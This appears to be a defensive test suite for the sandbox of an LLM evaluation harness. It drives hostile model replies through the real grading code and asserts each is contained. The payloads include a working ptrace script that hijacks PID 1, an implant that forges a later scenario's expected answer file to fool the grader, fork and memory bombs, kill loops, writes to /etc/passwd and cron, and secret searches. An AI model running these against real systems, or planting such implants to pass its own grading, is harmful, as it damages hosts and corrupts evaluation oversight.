"""Attack suite: hostile model replies driven through the real grading code in real containers.

Each class of attack is tried as a model would: a reply whose commands run through the kind that grades
it (`cli.run`, `bugfind.run` with the warm pool's reset between scenarios), or a whole `pytest --quality`
run against a loopback fake model. Every test shows the attack contained, and that the next scenario
gets a clean sandbox. RELIABILITY.md ("Sandbox attacks") lists them. No container may be left behind:
the fixtures assert it through the Docker SDK and our labels.

Needs a Docker engine and the sandbox image (`.ci/install-docker.sh`, `pytest-quality sandbox build`);
otherwise those tests are skipped with a reason naming what is missing.
"""

from __future__ import annotations

import dataclasses
import json
import os
import socket
import textwrap
import time
import uuid

import pytest

from pytest_quality import execute
from pytest_quality.agent import replay_model
from pytest_quality.packs import bundled_pack_dir, load_pack
from pytest_quality.sandbox import cleanup
from pytest_quality.sandbox import container as sandbox_container
from pytest_quality.sandbox.container import Sandbox, SandboxBroken
from pytest_quality.sandbox.kinds import SandboxOutcome, bugfind, cli
from pytest_quality.verdict import SANDBOX_UNAVAILABLE, Verdict
from tests.support.fake_openai import FakeServer, answer_reference
from tests.support.runner import run_quality

AVAILABLE, REASON = cleanup.docker_available()


def needs_docker(test):
    return pytest.mark.docker(pytest.mark.skipif(not AVAILABLE, reason=REASON or "docker available")(test))


CLI = {s.id: s for s in load_pack(bundled_pack_dir() / "cli-40.jsonl").scenarios}
BUGFIND = {s.id: s for s in load_pack(bundled_pack_dir() / "bugfind-15.jsonl").scenarios}
SESSION = cleanup.new_session_id("attack")
CLI02_TOTALS = CLI["CLI-02"].verifier["checks"][0]["value"]


def _containers(label: str = f"pytest-quality.session={SESSION}") -> list:
    import docker as docker_sdk

    return docker_sdk.from_env().containers.list(all=True, filters={"label": label})


def _sessions_with_prefix(prefix: str) -> list:
    return [c for c in _containers("pytest-quality") if c.labels.get("pytest-quality.session", "").startswith(prefix)]


@pytest.fixture(autouse=True)
def _no_stray_containers():
    yield
    if AVAILABLE:  # the module pool keeps at most its one container; nothing else of ours may remain
        assert len(_containers()) <= 1, [c.name for c in _containers()]


def _scenario(sid: str, **verifier):
    base = CLI.get(sid) or BUGFIND[sid]
    return dataclasses.replace(base, verifier={**base.verifier, **verifier}) if verifier else base


def _reply(body: str) -> dict:
    return {"role": "assistant", "content": f'<solution verdict="run">\n{body}\n</solution>'}


def cli_run(pool, body: str, sid: str = "CLI-01", **verifier):
    """One hostile one-shot reply graded by the real cli kind in a pool sandbox (reset afterwards).
    A sandbox the reply broke is graded as `execute.run_sandboxed` grades it: a scored failure."""
    with pool.acquire() as sandbox:
        container_id = sandbox.id
        try:
            verdict = cli.run(_scenario(sid, **verifier), replay_model(_reply(body)), sandbox).verdict
        except SandboxBroken as exc:
            outcome = execute.sandbox_failure(
                SandboxOutcome(Verdict.fail(str(exc), SANDBOX_UNAVAILABLE)), exc, [], sandbox
            )
            verdict = outcome.verdict
            assert verdict.failure_mode == "verifier_fail" and "broke its sandbox" in verdict.detail
    return verdict, container_id


def assert_clean(pool) -> Sandbox:
    """The next scenario's sandbox: no process but PID 1 (the reaper, as `nobody`) and this command's,
    nothing in /workspace, /tmp, /dev/shm or /dev/mqueue, no SysV IPC object."""
    with pool.acquire() as sandbox:
        res = sandbox.exec(
            "g=$(ps -o pgid= -p $$ | tr -d ' ');"
            "echo procs $(ps -e -o pid=,pgid= | awk -v g=$g '$1 != 1 && $2 != g' | wc -l);"
            "echo files $(find /workspace /tmp /dev/shm /dev/mqueue -mindepth 1 | wc -l);"
            "echo ipc $(tail -q -n +2 /proc/sysvipc/msg /proc/sysvipc/shm /proc/sysvipc/sem | wc -l);"
            "echo init $(ps -o user= -p 1) $(tr '\\0' ' ' < /proc/1/cmdline | grep -c pq-reaper-)",
            timeout=10,
        )
        seen = dict(line.split(" ", 1) for line in res.stdout.decode().splitlines())
        assert res.ok and seen == {"procs": "0", "files": "0", "ipc": "0", "init": "nobody 1"}, (seen, res)
        return sandbox


# -- PID 1 takeover -------------------------------------------------------------------------------

# ptrace-seize PID 1 and make it execve the program in argv[1..]: run inside the sandbox as uid 1000.
HIJACK = textwrap.dedent(r"""
    import ctypes, os, struct, sys
    libc = ctypes.CDLL(None, use_errno=True)
    libc.ptrace.restype = ctypes.c_long
    libc.ptrace.argtypes = [ctypes.c_long, ctypes.c_long, ctypes.c_void_p, ctypes.c_void_p]
    def call(req, addr=None, data=None, what=""):
        ctypes.set_errno(0)
        r = libc.ptrace(req, 1, addr, data)
        if r == -1 and ctypes.get_errno():
            print(f"ptrace {what} of PID 1 failed: {os.strerror(ctypes.get_errno())}", flush=True)
            sys.exit(1)
        return r
    call(0x4206, what="SEIZE")
    call(0x4207, what="INTERRUPT")
    os.waitpid(1, 0x40000000)
    regs = (ctypes.c_ulong * 27)()
    call(12, None, ctypes.byref(regs), "GETREGS")
    ip = regs[16] - 2  # the syscall instruction PID 1 is blocked in
    if call(1, ctypes.c_void_p(ip), None, "PEEKTEXT") & 0xffff != 0x050f:
        sys.exit("no syscall instruction before rip")
    base, blob, addrs = (regs[19] & ~0xf) + 64, b"", []
    for arg in sys.argv[1:]:
        addrs.append(base + len(blob)); blob += arg.encode() + b"\0"
    blob += b"\0" * (-len(blob) % 8)
    argv_at = base + len(blob)
    blob += struct.pack(f"<{len(addrs) + 1}Q", *addrs, 0)
    with open("/proc/1/mem", "r+b", buffering=0) as mem:
        mem.seek(base); mem.write(blob)
    regs[10], regs[15], regs[16] = 59, 2**64 - 1, ip  # rax = execve, orig_rax = -1 (no restart), rip
    regs[14], regs[13], regs[12] = addrs[0], argv_at, 0  # rdi, rsi, rdx
    call(13, None, ctypes.byref(regs), "SETREGS")
    call(17, what="DETACH")
    print("PID 1 hijacked", flush=True)
""")

# The implant PID 1 becomes: never forks (the reset's kill loop sees nothing to kill), and whenever a
# CLI-02 workspace appears, writes the expected totals.csv into it, so a wrong answer would pass.
IMPLANT = textwrap.dedent(f"""\
    exec 3<>/dev/shm/pq-fifo
    while :; do
      read -t 0.05 -u 3
      if [ -e /workspace/sales.csv ] && [ ! -e /workspace/totals.csv ]; then
        printf '%s' '{CLI02_TOTALS}' > /workspace/totals.csv
      fi
    done 2>/dev/null
""")


def hijack_script(implant: str = IMPLANT) -> str:
    return (
        f"cat > /tmp/h.py <<'PQ_EOF'\n{HIJACK}PQ_EOF\ncat > /tmp/implant.sh <<'PQ_EOF'\n{implant}PQ_EOF\n"
        'mkfifo /dev/shm/pq-fifo\npython3 /tmp/h.py /bin/bash -c "$(cat /tmp/implant.sh)"\necho 46'
    )


@needs_docker
def test_pid1_takeover_cannot_forge_a_later_scenario(pool):
    """A reply ptraces PID 1 and turns it into an implant that would answer the next scenario (CLI-02)
    for the model. PID 1 runs as another uid and is not dumpable: the attach fails, and CLI-02 with a
    do-nothing reply fails as it should."""
    attack, _ = cli_run(pool, hijack_script())
    verdict, _ = cli_run(pool, "true", sid="CLI-02")
    assert not verdict.passed, f"an implant left by an earlier scenario answered CLI-02: {attack.trace['run']}"
    assert "totals.csv" in verdict.detail, verdict.detail
    assert "ptrace SEIZE of PID 1 failed: Operation not permitted" in attack.trace["run"]["stdout"], attack.trace
    assert_clean(pool)


@needs_docker
def test_reset_replaces_a_container_whose_pid1_was_taken_over(monkeypatch):
    """The check after each reset: with the old, weak PID 1 (uid 1000, dumpable) the takeover works,
    and the reset notices PID 1 is no longer the reaper it started and replaces the container."""
    monkeypatch.setattr(sandbox_container, "INIT_USER", "1000:1000")
    weak_reaper = sandbox_container.REAPER.replace(sandbox_container.NONDUMPABLE, "")
    monkeypatch.setattr(sandbox_container, "REAPER", weak_reaper)
    with Sandbox(session=SESSION) as sandbox:
        assert sandbox.reset() and sandbox.reset_problem is None  # takes PID 1's start time
        res = sandbox.exec(hijack_script(), timeout=15)
        assert b"PID 1 hijacked" in res.stdout, res
        first = sandbox.id
        assert sandbox.reset() is False and "PID 1" in sandbox.reset_problem, sandbox.reset_problem
        assert sandbox.id != first and sandbox.replacements == 1
        assert sandbox.exec("tr '\\0' ' ' < /proc/1/cmdline").stdout.startswith(b"python3 -c import ctypes")


@needs_docker
def test_ipc_objects_do_not_survive_the_reset(pool):
    """SysV message queues, shared memory and semaphores, and a POSIX message queue, left behind by a
    reply: the reset removes them all (they would otherwise carry data into the next scenario)."""
    make = textwrap.dedent("""\
        ipcmk -Q && ipcmk -M 4096 && ipcmk -S 1
        python3 -c 'import ctypes, os; lib = ctypes.CDLL(None, use_errno=True); lib.mq_open.restype = ctypes.c_int
        assert lib.mq_open(b"/pq-leak", os.O_CREAT | os.O_RDWR, 0o600, None) >= 0, os.strerror(ctypes.get_errno())'
        echo ipc $(tail -q -n +2 /proc/sysvipc/msg /proc/sysvipc/shm /proc/sysvipc/sem | wc -l) mq $(ls /dev/mqueue)
        echo 46""")
    verdict, _ = cli_run(pool, make)
    assert "ipc 3 mq pq-leak" in verdict.trace["run"]["stdout"], verdict.trace["run"]
    assert_clean(pool)


# -- the host's disk (finding 2) -----------------------------------------------------------------------


@needs_docker
def test_flood_to_pid1_stdout_never_reaches_the_hosts_disk(pool):
    """Writing to PID 1's stdout/stderr went to an uncapped json-file log on the host. Now the container
    has no log (driver "none") and /proc/1/fd is closed to the model's uid."""
    body = (
        "head -c 20000000 /dev/zero > /proc/1/fd/1; echo rc1=$? >&2; "
        "head -c 20000000 /dev/zero > /proc/1/fd/2; echo rc2=$? >&2; echo 46"
    )
    with pool.acquire() as sandbox:
        outcome = cli.run(_scenario("CLI-01"), replay_model(_reply(body)), sandbox)
        sandbox.container.reload()
        attrs = sandbox.container.attrs
        assert attrs["HostConfig"]["LogConfig"]["Type"] == "none"
        path = attrs.get("LogPath") or ""
        size = os.path.getsize(path) if path and os.path.exists(path) else 0
        assert size < 64 * 1024, f"{path} grew to {size} bytes"
    assert outcome.verdict.passed, outcome.verdict.detail  # grading itself went on as usual


# -- a sandbox broken on purpose is a scored failure (finding 3) ----------------------------------------

KILL_LOOP = 'setsid bash -c "while :; do kill -9 -1; done" </dev/null >/dev/null 2>&1 &\necho 46'
# Fills the pids limit with sleeping processes and keeps it full (a fork bomb that spares the CPU, so
# the test stays fast), waits until it is full, then kills its own shell: saving the session state would
# need a fork.
FORK_BOMB_LEFT_BEHIND = textwrap.dedent("""\
    python3 - <<'PY'
    import os, signal, time
    if os.fork() == 0:
        os.setsid()
        fd = os.open("/dev/null", os.O_RDWR)
        for i in (0, 1, 2):
            os.dup2(fd, i)
        while True:
            try:
                if os.fork() == 0:
                    signal.pause()
            except OSError:
                time.sleep(0.02)
    while True:  # on only once the pids limit is full (a fork here fails), however slow the machine
        try:
            pid = os.fork()
        except OSError:
            break
        if pid == 0:
            os._exit(0)
        os.waitpid(pid, 0)
        time.sleep(0.02)
    print(46, flush=True)
    os.kill(os.getppid(), 9)
    PY""")


@needs_docker
def test_broken_sandbox_is_a_scored_failure_in_a_real_run(workdir):
    """A whole `pytest --quality --quality-gate=strict` run: one reply leaves a `kill -9 -1` loop behind,
    one a fork bomb that keeps the pids limit full. Both scenarios are scored failures ("the model broke its sandbox"), not missing;
    the pool replaces the container, so the next scenario's reference passes; strict exits 1; no
    container is left."""
    hostile = {"CLI-01": KILL_LOOP, "CLI-04": FORK_BOMB_LEFT_BEHIND}

    def answer(scenario, request):
        if scenario is not None and scenario.id in hostile:
            return _reply(hostile[scenario.id])
        return answer_reference(scenario, request)

    prefix = f"atk{uuid.uuid4().hex[:6]}-"
    with FakeServer(answer, pack_ids=["cli-40"]) as server:
        run = run_quality(
            workdir,
            "--pack=cli-40",
            "-k",
            "CLI-01 or CLI-04 or CLI-02",
            "-p",
            "no:xdist",
            f"--endpoint={server.url}",
            "--quality-gate=strict",
            timeout=240,
            env={"PYTEST_QUALITY_SESSION_PREFIX": prefix},
        )
    records = {s["id"]: s for p in run.data["packs"] for s in p["scenarios"]}
    pack = run.data["packs"][0]
    assert set(records) == {"CLI-01", "CLI-02", "CLI-04"} and pack["missing"] == 0 and pack["errors"] == 0, (
        pack["missing"],
        pack["errors"],
        run.stdout[-3000:],
    )
    for sid in hostile:
        assert records[sid]["passed"] is False and records[sid]["failure_mode"] == "verifier_fail", records[sid]
        assert records[sid]["detail"].startswith("the model broke its sandbox: "), records[sid]["detail"]
    assert records["CLI-02"]["passed"], records["CLI-02"]["detail"]
    assert pack["total"] == 3 and run.returncode == 1, (run.returncode, run.stdout[-2000:])
    assert _sessions_with_prefix(prefix) == []


def test_strict_gate_fails_when_a_selected_scenario_was_not_scored(workdir):
    """A scenario whose setup crashed leaves no record ("not run"): `--quality-gate=strict` must not
    pass the run on the rest, and says why. (No Docker needed: a crash stands in for any cause.)"""
    (workdir / "pq_crash_plugin.py").write_text(
        textwrap.dedent("""\
        def pytest_runtest_setup(item):
            if item.name == "TC-02":
                raise RuntimeError("simulated crash before the scenario was graded")
    """)
    )
    path = os.pathsep.join(p for p in (str(workdir), os.environ.get("PYTHONPATH")) if p)
    with FakeServer(answer_reference) as server:
        strict = run_quality(
            workdir,
            "--quality=quick",
            "-k",
            "TC-01 or TC-02",
            f"--endpoint={server.url}",
            "--quality-gate=strict",
            "-p",
            "no:xdist",
            "-p",
            "pq_crash_plugin",
            env={"PYTHONPATH": path},
        )
    pack = [p for p in strict.data["packs"] if p["pack_id"] == "toolcall-15"][0]
    assert (pack["passed"], pack["total"], pack["missing"]) == (1, 1, 1), strict.stdout[-2000:]
    assert strict.returncode == 1, strict.stdout[-2000:] + strict.stderr[-2000:]
    why = "--quality-gate=strict: 1 selected scenario(s) not scored: 1 not run"
    assert why in strict.stderr and f"⚠ {why}" in strict.stdout, strict.stdout[-2000:]


# -- CPU time (finding 5) ---------------------------------------------------------------------------------

IGNORE_SIGNALS = (
    "import signal\nfor s in ('SIGXCPU', 'SIGTERM', 'SIGINT', 'SIGHUP', 'SIGALRM', 'SIGPROF', "
    "'SIGVTALRM', 'SIGUSR1'):\n    signal.signal(getattr(signal, s), signal.SIG_IGN)\n"
)
BURN = "import time\nt0 = time.process_time()\nwhile time.process_time() - t0 < {seconds}:\n    pass\n"


@needs_docker
def test_cpu_limit_is_enforced_from_outside_the_candidate(pool):
    """A command that ignores every catchable signal and burns CPU: the hard RLIMIT_CPU the exec wrapper
    sets (which it cannot raise) kills it at its CPU limit, reported as a timeout."""
    prog = (
        IGNORE_SIGNALS
        + "import resource\nprint(resource.getrlimit(resource.RLIMIT_CPU), flush=True)\n"
        + BURN.format(seconds=12)
        + "print('finished')\n"
    )
    with pool.acquire() as sandbox:
        res = sandbox.exec(["python3", "-c", prog], timeout=60, cpu_limit=1)
        assert res.timed_out and res.exit_code == 137 and b"finished" not in res.stdout, res
        assert res.stdout.startswith(b"(1, 1)") and res.duration_s < 50, res  # the CPU limit, not the clock
        # Raising its own hard limit is refused.
        res = sandbox.exec(
            ["python3", "-c", "import resource\nresource.setrlimit(resource.RLIMIT_CPU, (100, 100))"],
            timeout=10,
            cpu_limit=2,
        )
        assert res.exit_code != 0 and b"not allowed" in res.stderr, res


@needs_docker
def test_cpu_burner_that_escapes_its_process_group_still_dies(pool):
    """Killing `timeout` (same uid) and leaving the process group with setsid escapes the wall-clock
    kill; the kernel's RLIMIT_CPU (by default the timeout + 1 s; 1 s here) still ends the burner."""
    prog = IGNORE_SIGNALS + textwrap.dedent("""\
        import os
        if os.fork() == 0:
            os.setsid()
            if os.fork() == 0:
                fd = os.open("/dev/null", os.O_RDWR)
                for i in (0, 1, 2):
                    os.dup2(fd, i)
                open("/tmp/burner.pid", "w").write(str(os.getpid()))
                while True:
                    pass
            os._exit(0)
        while not os.path.exists("/tmp/burner.pid"):
            pass
        os.kill(os.getppid(), 9)  # the exec's `timeout`
        """)
    with pool.acquire() as sandbox:
        res = sandbox.exec(["python3", "-c", prog], timeout=5, cpu_limit=1)
        pid = sandbox.exec("cat /tmp/burner.pid").stdout.decode().strip()
        assert pid.isdigit() and res.duration_s < 5, res
        assert sandbox.exec(f"kill -0 {pid}").exit_code == 0  # it outlived the command ...
        deadline = time.monotonic() + 30  # ... but not its 1 s of CPU (more wall time on a busy host)
        while sandbox.exec(f"kill -0 {pid}").exit_code == 0:
            assert time.monotonic() < deadline, "the escaped CPU burner is still running"
            time.sleep(0.5)
    assert_clean(pool)


@needs_docker
def test_cpu_burner_ignoring_signals_fails_with_a_timeout_in_bugfind_and_cli(pool):
    """A fix that ignores SIGXCPU/SIGTERM and burns 12 s of CPU against a 2 s limit fails with a timeout,
    in about 2 s; so does a CLI command doing the same."""
    scenario = _scenario("BF-01", run_timeout_s=2)
    code = IGNORE_SIGNALS + BURN.format(seconds=12) + bugfind.parse_answer(scenario.reference["content"], "python").code
    start = time.monotonic()
    with pool.acquire() as sandbox:
        outcome = bugfind.run(
            scenario,
            replay_model({"role": "assistant", "content": f'<solution verdict="fix">\n{code}</solution>'}),
            sandbox,
        )
    assert not outcome.verdict.passed and "timed out after 2 s" in outcome.verdict.detail, outcome.verdict
    assert time.monotonic() - start < 10
    script = (
        "trap '' XCPU TERM INT HUP ALRM; python3 -c \""
        + (IGNORE_SIGNALS + BURN.format(seconds=12)).replace('"', '\\"')
        + '"; echo 46'
    )
    verdict, _ = cli_run(pool, script, timeout=2)
    assert not verdict.passed and verdict.trace["run"]["status"] == "timeout", verdict.trace["run"]


# -- attacks that already held: regression guards ---------------------------------------------------------


@needs_docker
def test_network_is_unreachable(pool):
    listener = socket.socket()
    listener.bind(("127.0.0.1", 0))
    listener.listen(1)
    listener.settimeout(0.2)
    port = listener.getsockname()[1]
    probe = textwrap.dedent(f"""\
        python3 - <<'PY'
        import socket
        for addr in [("127.0.0.1", {port}), ("172.17.0.1", {port}), ("8.8.8.8", 53)]:
            s = socket.socket(); s.settimeout(2)
            try:
                s.connect(addr); print("CONNECTED", addr)
            except OSError as e:
                print("blocked", e.errno)
        try:
            socket.getaddrinfo("deb.debian.org", 80); print("RESOLVED")
        except OSError:
            print("no dns")
        PY""")
    verdict, _ = cli_run(pool, probe)
    out = verdict.trace["run"]["stdout"]
    assert out.count("blocked") == 3 and "no dns" in out and "CONNECTED" not in out, out
    with pytest.raises(OSError):
        listener.accept()
    listener.close()
    assert_clean(pool)


@needs_docker
def test_fork_bomb_in_the_command(pool):
    verdict, _ = cli_run(pool, ":(){ :|:& };:", timeout=3)
    assert not verdict.passed and verdict.failure_mode == "verifier_fail", verdict  # a scored failure
    assert_clean(pool)


@needs_docker
def test_memory_bomb(pool):
    bomb = "python3 -c 'a = []\nwhile True: a.append(bytearray(64 * 2**20))'; echo rc=$?"
    verdict, _ = cli_run(pool, bomb, timeout=20)
    assert verdict.trace["run"]["stdout"].strip() in ("rc=137", "rc=1"), verdict.trace["run"]
    assert_clean(pool)


@needs_docker
def test_disk_fill(pool):
    body = (
        "for d in /workspace /tmp /dev/shm; do head -c 300M /dev/zero > $d/big 2>/dev/null; "
        "echo $d $(stat -c %s $d/big); done"
    )
    verdict, _ = cli_run(pool, body, timeout=20)
    sizes = [int(line.split()[1]) for line in verdict.trace["run"]["stdout"].splitlines()]
    assert len(sizes) == 3 and all(s <= 64 * 2**20 for s in sizes), verdict.trace["run"]
    assert_clean(pool)


@needs_docker
def test_writes_outside_the_workspace(pool):
    targets = [
        "/etc/passwd",
        "/usr/bin/python3",
        "/root/x",
        "/var/tmp/x",
        "/opt/x",
        "/x",
        "/proc/1/mem",
        "/sys/fs/cgroup/x",
        "/etc/cron.d/x",
    ]
    body = "; ".join(f"echo pwned >> {t} 2>/dev/null && echo WROTE {t}" for t in targets) + "; echo done"
    with pool.acquire() as sandbox:
        outcome = cli.run(_scenario("CLI-01"), replay_model(_reply(body)), sandbox)
        assert sandbox.container.diff() in (None, [])
    assert "WROTE" not in outcome.verdict.trace["run"]["stdout"], outcome.verdict.trace["run"]
    assert_clean(pool)


@needs_docker
def test_host_secrets_are_out_of_reach(pool, tmp_path):
    secret = f"canary-{uuid.uuid4().hex}"
    canary = tmp_path / "canary.txt"
    canary.write_text(secret)
    os.environ["PQ_ATTACK_CANARY"] = secret
    try:
        body = (
            f"cat {canary} /tmp/../{canary} 2>/dev/null; env; "
            f"grep -rIl {secret} /etc /root /home /tmp /workspace /mnt /srv /opt /var /run /proc/1/environ "
            "2>/dev/null; echo searched"
        )
        verdict, _ = cli_run(pool, body, timeout=20)
    finally:
        del os.environ["PQ_ATTACK_CANARY"]
    assert secret not in json.dumps(verdict.trace), "a host secret reached the sandbox"
    assert "searched" in verdict.trace["run"]["stdout"]
    assert_clean(pool)


@needs_docker
def test_endless_loop_and_detached_loop(pool):
    start = time.monotonic()
    verdict, _ = cli_run(
        pool, "setsid sh -c 'while :; do :; done' </dev/null >/dev/null 2>&1 &\nwhile :; do :; done", timeout=2
    )
    assert verdict.trace["run"]["status"] == "timeout" and time.monotonic() - start < 8, verdict.trace["run"]
    assert_clean(pool)


@needs_docker
def test_output_flood(pool):
    """20 MB on stdout and on stderr: the model (and the trace) get the first 1000 bytes of each."""
    body = "head -c 20000000 /dev/zero | tr '\\0' y; head -c 20000000 /dev/zero | tr '\\0' z >&2"
    verdict, _ = cli_run(pool, body, timeout=20, output_cap=1000)
    run = verdict.trace["run"]
    assert run["stdout"].startswith("y" * 1000) and "[output truncated: 19999000 more bytes" in run["stdout"], run
    assert run["stderr"].startswith("z" * 1000) and "[output truncated: 19999000 more bytes" in run["stderr"], run
    assert len(run["stdout"]) < 1100 and len(run["stderr"]) < 1100
    assert_clean(pool)


@needs_docker
def test_kill_everything_once(pool):
    """`kill -9 -1` (and signals to PID 1) once, then the answer: PID 1 survives, grading goes on, and
    the container is reused, not replaced."""
    verdict, first = cli_run(pool, "kill -9 1; kill -KILL -1; echo 46")
    assert verdict.detail  # graded either way (the model's own shell may die with the rest)
    sandbox = assert_clean(pool)
    assert sandbox.id == first


@needs_docker
def test_container_hardening_settings(pool):
    with pool.acquire() as sandbox:
        attrs = sandbox.container.attrs
        host = attrs["HostConfig"]
        assert attrs["Config"]["User"] == sandbox_container.INIT_USER == "65534:65534"
        assert host["LogConfig"]["Type"] == "none" and host["NetworkMode"] == "none"
        assert host["CapDrop"] == ["ALL"] and "no-new-privileges" in host["SecurityOpt"]
        res = sandbox.exec("id -u; grep -i 'max cpu' /proc/self/limits | tr -s ' '", timeout=5)
        assert res.stdout.decode().splitlines() == ["1000", "Max cpu time 6 6 seconds "], res
